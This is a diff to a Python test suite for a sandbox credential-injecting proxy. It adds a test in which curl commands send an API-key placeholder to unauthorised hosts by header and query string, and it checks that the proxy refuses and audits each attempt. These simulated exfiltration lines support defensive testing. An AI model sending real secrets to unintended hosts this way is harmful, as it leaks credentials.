@@ -29,6 +29,7 @@ class RunCredentialsTest(unittest.TestCase):
     def setUpClass(cls):
         cls.pki = test_pki()
         cls.https = HttpUpstream(cls.pki)
+        cls.plain = HttpUpstream()
         artifacts.register_secret("sandbox-api", SECRET)
         cls.dir = tempfile.mkdtemp(prefix="sandgate-runcred-")
         os.chmod(cls.dir, 0o755)
@@ -41,6 +42,10 @@ class RunCredentialsTest(unittest.TestCase):
         cls.ca_out = os.path.join(cls.dir, "sandgate-ca.pem")
         cls.config = os.path.join(cls.dir, "sandgate.yaml")
         rule = {"host": "api.test", "cidrs": ["127.0.0.0/8"]}
+        # Hosts the keyed task may reach but the credential does not name: one intercepted
+        # (inspect), one over plain HTTP.
+        elsewhere = [{"host": "other.test", "cidrs": ["127.0.0.0/8"], "inspect": True},
+                     {"host": "plain.test", "ports": [80], "cidrs": ["127.0.0.0/8"]}]
         cfg = {
             "ca_cert_out": cls.ca_out,
             "tls": {"upstream_ca": cls.pki.ca_cert},
@@ -49,14 +54,16 @@ class RunCredentialsTest(unittest.TestCase):
                 "inject": {"header": "Authorization", "value": "Bearer {secret}"},
                 "placeholder": "API_KEY"}},
             "policies": {
-                "with-key": {"allow": [dict(rule, credential="api")]},
+                "with-key": {"allow": [dict(rule, credential="api")] + elsewhere},
                 "plain": {"allow": [dict(rule)]},  # api.test allowed, but no credential
                 "nothing": {"allow": []},
             },
             "tasks": [{"name": "keyed", "policy": "with-key"},
                       {"name": "plain", "policy": "plain"},
                       {"name": "none", "policy": "nothing"}],
-            "resolve": {"api.test": f"127.0.0.1:{cls.https.port}"},
+            "resolve": {"api.test": f"127.0.0.1:{cls.https.port}",
+                        "other.test": f"127.0.0.1:{cls.https.port}",
+                        "plain.test": f"127.0.0.1:{cls.plain.port}"},
             "audit": {"path": os.path.join(cls.dir, "audit.log")},
         }
         with open(cls.config, "w") as f:
@@ -64,11 +71,13 @@ class RunCredentialsTest(unittest.TestCase):
         probe = cls.sandgate("keyed", "true")
         if probe.returncode == 125 and namespaces_refused(probe.stderr):
             cls.https.close()
+            cls.plain.close()
             raise unittest.SkipTest("this host refuses namespaces: " + probe.stderr.strip())
 
     @classmethod
     def tearDownClass(cls):
         cls.https.close()
+        cls.plain.close()
         artifacts.record_file("audit", "audit.log", os.path.join(cls.dir, "audit.log"))
         shutil.rmtree(cls.dir, ignore_errors=True)
 
@@ -146,6 +155,35 @@ class RunCredentialsTest(unittest.TestCase):
         # A plain tunnel: curl verifies the upstream's own test-CA certificate, which the
         # sandbox does not trust, so the request fails in the sandbox and nothing is injected.
         self.assertNotIn(SECRET, "".join(_authorizations(self.https.requests[before:])))
+
+    def test_placeholder_sent_to_another_host_is_refused_and_audited(self):
+        # The sandbox sends its placeholder where the credential may never go: in a header
+        # inside an intercepted tunnel, in the query and in a header of plain-HTTP requests.
+        # Each is refused before anything reaches an upstream, and audited as the tripwire.
+        before_https, before_plain = len(self.https.requests), len(self.plain.requests)
+        code = "curl -sS -o /dev/null -w '%{http_code}\\n' "
+        r = self.sandgate("keyed", "; ".join([
+            code + 'https://other.test/echo/tripwire -H "Authorization: Bearer $API_KEY"',
+            code + '"http://plain.test/echo/tripwire-query?key=$API_KEY"',
+            code + 'http://plain.test/echo/tripwire-header -H "X-Note: $API_KEY"']))
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(r.stdout.split(), ["403"] * 3, r.stderr)
+        self.assertEqual(r.stderr.count("possible exfiltration attempt refused"), 3, r.stderr)
+        self.assertEqual(self.https.requests[before_https:], [])
+        self.assertEqual(self.plain.requests[before_plain:], [])
+        with open(os.path.join(self.dir, "audit.log")) as f:
+            audit = [json.loads(line) for line in f if line.strip()]
+        trips = [a for a in audit if (a.get("path") or "").startswith("/echo/tripwire")]
+        self.assertEqual(sorted((a["host"], a["path"]) for a in trips),
+                         [("other.test", "/echo/tripwire"),
+                          ("plain.test", "/echo/tripwire-header"),
+                          ("plain.test", "/echo/tripwire-query")])
+        for a in trips:
+            self.assertEqual((a["verdict"], a["reason"], a["credential"], a["status"]),
+                             ("deny", "credential_host_mismatch", "api", 403), a)
+        # Still reachable without the placeholder: the refusals were the placeholder's.
+        r = self.sandgate("keyed", code + "http://plain.test/echo/no-placeholder")
+        self.assertEqual(r.stdout.split(), ["200"], r.stderr)
 
     def test_concurrent_sandboxes_do_not_share_permissions(self):
         # Both run at once, each several requests: the keyed one is always allowed with its
